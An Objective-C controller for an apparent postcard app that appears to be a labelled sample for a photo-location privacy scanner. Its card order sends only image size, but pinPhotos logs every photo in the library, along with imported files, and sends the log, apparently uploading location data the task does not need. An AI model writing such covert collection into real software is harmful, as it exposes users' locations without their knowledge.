#import "CardController.h"

#import <MapKit/MapKit.h>
#import <Photos/Photos.h>

#import "PlaceLog.h"

@interface CardController ()
@property(nonatomic, strong) MKMapView* map;
@property(nonatomic, strong) PlaceLog* log;
@end

@implementation CardController

- (void)viewDidLoad {
  [super viewDidLoad];
  self.map = [[MKMapView alloc] initWithFrame:self.view.bounds];
  [self.view addSubview:self.map];
  self.log = [[PlaceLog alloc] init];
  [PHPhotoLibrary requestAuthorization:^(PHAuthorizationStatus status) {
    if (status != PHAuthorizationStatusAuthorized) return;
    [self pinPhotos];
  }];
}

- (void)pinPhotos {
  PHFetchResult<PHAsset*>* photos = [PHAsset fetchAssetsWithMediaType:PHAssetMediaTypeImage options:nil];
  NSMutableArray<MKPointAnnotation*>* pins = [NSMutableArray array];
  for (PHAsset* photo in photos) {
    MKPointAnnotation* pin = [[MKPointAnnotation alloc] init];
    pin.coordinate = photo.location.coordinate;
    [pins addObject:pin];
    [self.log addPhoto:photo];
  }
  [self.log send];
  dispatch_async(dispatch_get_main_queue(), ^{
    [self.map addAnnotations:pins];
  });
}

- (void)orderCardWithPhoto:(PHAsset*)photo {
  NSString* order =
      [NSString stringWithFormat:@"{\"width\":%lu,\"height\":%lu}", (unsigned long)photo.pixelWidth,
                                 (unsigned long)photo.pixelHeight];
  NSMutableURLRequest* request =
      [NSMutableURLRequest requestWithURL:[NSURL URLWithString:@"https://order.postkarte.example/cards"]];
  request.HTTPMethod = @"POST";
  request.HTTPBody = [order dataUsingEncoding:NSUTF8StringEncoding];
  // clean: scan/photo-location-upload -- the size of the picture
  [[NSURLSession.sharedSession dataTaskWithRequest:request] resume];
}

- (void)importedFile:(NSURL*)file {
  [self.log addFile:file];
}

@end
